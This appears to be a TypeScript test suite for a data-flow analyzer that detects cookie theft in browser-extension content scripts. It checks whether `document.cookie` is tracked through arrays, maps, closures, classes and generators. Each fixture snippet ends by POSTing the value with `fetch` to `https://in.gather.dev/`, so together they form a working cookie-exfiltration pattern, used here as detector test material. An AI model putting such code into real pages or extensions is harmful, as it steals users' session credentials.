import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

/** What keeps a value in a variable of its own each time that it is made. */
const store =
  'const make = () => { let kept; return { set(value) { kept = value }, get: () => kept } };';

/** Ways that lead to one of two values, `ONE` or `TWO`; `run` is what the other way round is sent as well. */
const ways: Readonly<Record<string, string>> = {
  'an element after a push': 'const l = [TWO]; l.push(ONE); const held = l[1];',
  'an element after an argument was changed':
    'const l = [ONE, TWO]; l.push(l.shift()); const held = l[1];',
  'what is taken from the end': 'const l = [TWO, ONE]; const held = l.pop();',
  'what is taken from the start': 'const l = [ONE, TWO]; const held = l.shift();',
  'what is cut out': 'const l = [TWO, ONE]; const [held] = l.splice(1, 1);',
  'what a cut leaves': 'const l = [TWO, ONE]; l.splice(0, 1); const held = l[0];',
  'the other end': 'const held = [ONE, TWO].toReversed()[1];',
  'a part': 'const held = [TWO, ONE].slice(1)[0];',
  'the rest': 'const [, ...rest] = [TWO, ONE]; const held = rest[0];',
  'two lists': 'const held = [TWO].concat([ONE])[1];',
  'a list in a list': 'const a = [ONE]; const held = [5, ...a, TWO][1];',
  'another element': 'const held = [TWO].with(0, ONE)[0];',
  'a name that is looked for':
    "const held = [{ n: 'b', v: TWO }, { n: 'a', v: ONE }].find(({ n }) => n === 'a').v;",
  'a generator': 'function* give() { yield ONE; yield TWO; } const [held] = give();',
  'an iterator':
    'function* give() { yield TWO; yield ONE; } const i = give(); i.next(); const held = i.next().value;',
  'an own iterator':
    'const o = { *[Symbol.iterator]() { yield ONE; yield TWO; } }; const [held] = o;',
  'a value of an object': 'const [, held] = Object.values({ a: TWO, b: ONE });',
  'a map': "const m = new Map(); m.set('a', ONE); m.set('b', TWO); const held = m.get('a');",
  'a map of entries': "const m = new Map([['a', ONE], ['b', TWO]]); const held = m.get('a');",
  'a map by objects':
    'const a = {}, b = {}; const m = new WeakMap(); m.set(a, ONE); m.set(b, TWO); const held = m.get(a);',
  'an object of entries':
    "const o = Object.fromEntries([['a', ONE], ['b', TWO]]); const held = o.a;",
  'an instance':
    'class Box { constructor(v) { this.v = v } } const a = new Box(ONE), b = new Box(TWO); void b.v; const held = a.v;',
  'a method of an instance':
    'class Box { #v; constructor(v) { this.#v = v } take() { return this.#v } } const a = new Box(ONE), b = new Box(TWO); void b.take(); const held = a.take();',
  'a method that an instance inherits':
    'class Base { constructor(v) { this.v = v } take() { return this.v } } class Box extends Base {} const a = new Box(ONE), b = new Box(TWO); void b.take(); const held = a.take();',
  'what goes in comes out':
    'const f = (x) => x; const g = (x) => f(x); void g(TWO); const held = g(ONE);',
  'a closure':
    'const keep = (x) => () => x; const a = keep(ONE), b = keep(TWO); void b(); const held = a();',
  'a bound argument': 'const f = (x, y) => x; const held = f.bind(null, ONE)(TWO);',
  'this by call': 'function f() { return this.a } const held = f.call({ a: ONE, b: TWO });',
  arguments: 'function f() { return arguments[1] } const held = f(TWO, ONE);',
  'a store that a function makes': `${store} const a = make(), b = make(); a.set(ONE); b.set(TWO); const held = a.get();`,
  'a pair of state':
    'const state = (first) => { let now = first; return [() => now, (value) => { now = value }] }; const [a, setA] = state(null), [b, setB] = state(null); setA(ONE); setB(TWO); const held = a();',
  'a closure over an argument':
    'const make = (value) => ({ take: () => value }); const a = make(ONE), b = make(TWO); void b.take(); const held = a.take();',
  'a reference that a function makes':
    'const ref = (value) => ({ current: value }); const a = ref(null), b = ref(null); a.current = ONE; b.current = TWO; const held = a.current;',
  'what is worked out once':
    'const once = (work) => { let done = false, kept; return () => { if (!done) { kept = work(); done = true } return kept } }; const a = once(() => ONE), b = once(() => TWO); void b(); const held = a();',
  'a function around another':
    'const wrap = (work) => (...values) => work(...values); const same = wrap((value) => value); void same(TWO); const held = same(ONE);',
};
const send = "fetch('https://in.gather.dev/', { method: 'POST', body: held });";
const theft = 'cookies content.js > network content.js (theft, high)';

describe('of two values, the one that is meant', () => {
  for (const [name, way] of Object.entries(ways)) {
    it(`is found through ${name}`, () => {
      const code = (one: string, two: string): string =>
        `${way.replaceAll('ONE', one).replaceAll('TWO', two)} ${send}`;
      assert.ok(flowsBetween({ 'content.js': code('document.cookie', "'calm'") }).includes(theft));
      assert.deepEqual(flowsBetween({ 'content.js': code("'calm'", 'document.cookie') }), []);
    });
  }

  const doubts: Readonly<Record<string, string>> = {
    'a change that may not run': 'const l = [TWO]; if (x) l.unshift(ONE); const held = l[0];',
    'a change in a loop':
      'const l = []; for (const e of [TWO, ONE]) l.unshift(e); const held = l[0];',
    'a change by another function':
      'const l = [TWO]; window.add = () => { l[0] = ONE; }; const held = l[0];',
    'a list that is handed on':
      'const l = [TWO]; fill(l); function fill(a) { a[0] = ONE; } const held = l[0];',
    'a map that another fills':
      "const m = new Map([['a', TWO]]); window.f = () => m.set('a', ONE); const held = m.get('a');",
    'a member that is given again':
      'class Box { constructor(v) { this.v = v } } const a = new Box(TWO); a.v = ONE; const held = a.v;',
    'a store under another name': `${store} const a = make(); a.set(TWO); const b = a; b.set(ONE); const held = a.get();`,
    'a store that is handed on': `${store} const a = make(); a.set(TWO); fill(a); function fill(b) { b.set(ONE) } const held = a.get();`,
    'a method of a store that is taken': `${store} const a = make(); a.set(TWO); const { set } = a; set(ONE); const held = a.get();`,
    'a method of a store by a name worked out': `${store} const a = make(); a.set(TWO); a[['s', 'et'].join('')](ONE); const held = a.get();`,
    'a method of a store by call': `${store} const a = make(); a.set(TWO); a.set.call(null, ONE); const held = a.get();`,
    'a store of the window': `${store} const a = make(); a.set(TWO); window.store = a; window.store.set(ONE); const held = a.get();`,
    'a store whose name is written with an escape': `${store} const all = make(); all.set(TWO); a\\u006cl.set(ONE); const held = all.get();`,
    'a store that is filled in a loop': `${store} const a = make(); for (const each of [TWO, ONE]) a.set(each); const held = a.get();`,
    'what a function puts in':
      'const f = (o) => { o.a = ONE; return o }; const held = f({ a: TWO }).a;',
  };
  for (const [name, way] of Object.entries(doubts)) {
    it(`is not told from the other after ${name}`, () => {
      const code = way.replaceAll('ONE', 'document.cookie').replaceAll('TWO', "'calm'");
      assert.ok(
        flowsBetween({ 'content.js': `${code} ${send}` })
          .join()
          .includes('cookies content.js > network'),
      );
    });
  }
});
